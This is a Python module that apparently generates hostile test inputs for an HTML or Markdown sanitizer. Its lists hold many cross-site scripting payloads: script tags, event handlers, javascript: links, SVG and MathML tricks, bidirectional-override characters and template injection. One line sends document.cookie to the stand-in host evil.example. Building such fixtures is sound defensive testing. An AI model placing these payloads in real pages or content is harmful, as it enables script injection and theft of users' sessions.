"""Texts that try to run a script, to load something from elsewhere, or to break out of where they are shown."""

import random

ELSEWHERE = "evil.example"
"""A host that no page may ever ask."""
RUN = [
    "hacked()",
    "window.hacked=1;hacked()",
    f"fetch('http://{ELSEWHERE}/'+document.cookie)",
    f"new Image().src='//{ELSEWHERE}/x'",
    "parent.hacked?.()",
]
WRAPS = [
    "<script>{run}</script>",
    "<ScRiPt src=http://{host}/x.js></sCrIpT>",
    "<script>/*\n\n*/{run}//</script>",
    "<img src=x onerror={run}>",
    "<img src='http://{host}/a.png' srcset='http://{host}/b.png 2x' onload={run}>",
    "<svg onload={run}><animate onbegin={run} attributeName=x dur=1s></svg>",
    "<svg><script>{run}</script><image href=http://{host}/a.svg /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<object data=http://{host}/x.swf></object><embed src=http://{host}/x>",
    "<style>@import 'http://{host}/a.css';*{{background:url(http://{host}/b)}}</style>",
    "<link rel=stylesheet href=http://{host}/a.css><base href=http://{host}/>",
    "<meta http-equiv=refresh content='0;url=http://{host}/'>",
    "<form action=http://{host}/><button formaction=javascript:{run}>x</button><input autofocus onfocus={run}></form>",
    "<details open ontoggle={run}><video autoplay src=http://{host}/v onerror={run}>",
    "<a href=javascript:{run}>x</a><div style='background:url(http://{host}/c)' onmouseover={run}>x</div>",
    "<template><script>{run}</script></template><noscript><p title='</noscript><img src=x onerror={run}>'>",
    "[x](javascript:{run})",
    "[x](JaVaScRiPt:{run})",
    "[x](java\tscript:{run})",
    "[x](&#106;avascript&colon;{run})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:{run})",
    "[x](//{host}/y 'a\" onmouseover=\"{run}')",
    '![x](http://{host}/a.png "t")',
    '![x"onerror="{run}](http://{host}/a.png)',
    "![x](data:image/svg+xml,<svg/onload={run}>)",
    "![<img src=x onerror={run}>](http://{host}/p.png)",
    "[![x](http://{host}/a.png)](javascript:{run})",
    "[r]: javascript:{run}\n\n[r] ![r]",
    "<javascript:{run}> <http://{host}/auto> <x@{host}>",
    "```html\n<script>{run}</script>\n```",
    '```"><script>{run}</script>\nx',
    "`<img src=x onerror={run}>",
    "|<script>{run}</script>|b|\n|-|-|\n|![x](http://{host}/t.png)|<svg/onload={run}>|",
    "> <img src=x onerror={run}>\n1. <script>{run}</script>",
    "# <svg/onload={run}>\n\n---\n**<b onclick={run}>**",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\\<script>{run}\\</script>",
    "</textarea></title></script></style>--><script>{run}</script>",
    "]]><![CDATA[<script>{run}</script>]]>",
    "<!--<img src='--><img src=x onerror={run}>'",
    "\u202e>tpircs<{run}\u202c\u2066\u202d abc \u2069",
    "\u202eevil\u2067\u2066 [exe.txt](http://{host}/\u202egnp.exe)",
    "\u0000<scr\u0000ipt>{run}</scr\u0000ipt>\ufeff\u200b",
    "{{{{constructor.constructor('{run}')()}}}} ${{{run}}} #{{{run}}}",
]
NOISE = [
    "**",
    "_",
    "`",
    "~~",
    "[",
    "](",
    ")",
    "<",
    ">",
    "\n\n",
    "\n> ",
    "\n- ",
    "\n    ",
    "&",
    "\\",
    "|",
    "\u202e",
    "\u2067",
]


def hostile_texts(count: int, *, seed: int = 0) -> list[str]:
    """Each wrap at least once, some inside others, some broken by markup that does not belong there."""
    rng = random.Random(seed)
    texts = []
    for number in range(count):
        text = _one(rng, WRAPS[number % len(WRAPS)])
        if number >= len(WRAPS):
            for _ in range(rng.randrange(4)):
                at = rng.randrange(len(text) + 1)
                text = text[:at] + rng.choice(NOISE) * rng.randrange(1, 4) + text[at:]
            if rng.random() < 0.3:
                text = rng.choice(["> {}", "**{}**", "[{}](http://x.example)", "# {}", "- a\n  - {}"]).format(text)
            if rng.random() < 0.3:
                text += "\n" + _one(rng, rng.choice(WRAPS))
        texts.append(text.replace("\u0000", "\ufffd") if number % 2 else text)
    return texts


def _one(rng: random.Random, wrap: str) -> str:
    return wrap.format(run=rng.choice(RUN), host=ELSEWHERE)
